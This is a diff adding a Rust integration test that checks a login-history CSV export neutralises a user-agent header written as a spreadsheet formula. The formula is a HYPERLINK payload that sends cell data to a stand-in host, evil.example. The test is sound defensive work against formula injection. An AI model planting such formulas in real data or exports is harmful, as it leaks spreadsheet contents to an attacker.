@@ -104,3 +104,29 @@ async fn exports_parse_and_match_the_json_api() {
         assert_eq!(field("failure"), row["failure"].as_str().unwrap_or(""));
     }
 }
+
+#[tokio::test]
+async fn a_user_agent_that_is_a_formula_is_exported_as_text() {
+    let app = spawn_app().await;
+    let token = app.signed_in_user("ada@example.com").await;
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    let r = app
+        .client
+        .post(app.url("/api/v1/auth/login"))
+        .header("user-agent", formula)
+        .json(&serde_json::json!({"email": "ada@example.com", "password": "Wrong-Password-1!"}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
+    // The JSON keeps it as it came; the spreadsheet download cannot run it.
+    let api = app.get("/api/v1/me/login-history", &token).await.body;
+    assert_eq!(api[0]["user_agent"], formula);
+    let csv_dl =
+        app.client.get(app.url("/api/v1/me/login-history?format=csv")).bearer_auth(&token).send().await.unwrap();
+    let text = csv_dl.text().await.unwrap();
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let column = reader.headers().unwrap().iter().position(|h| h == "user_agent").unwrap();
+    let first = reader.records().next().unwrap().unwrap();
+    assert_eq!(first.get(column).unwrap(), format!("'{formula}"));
+}
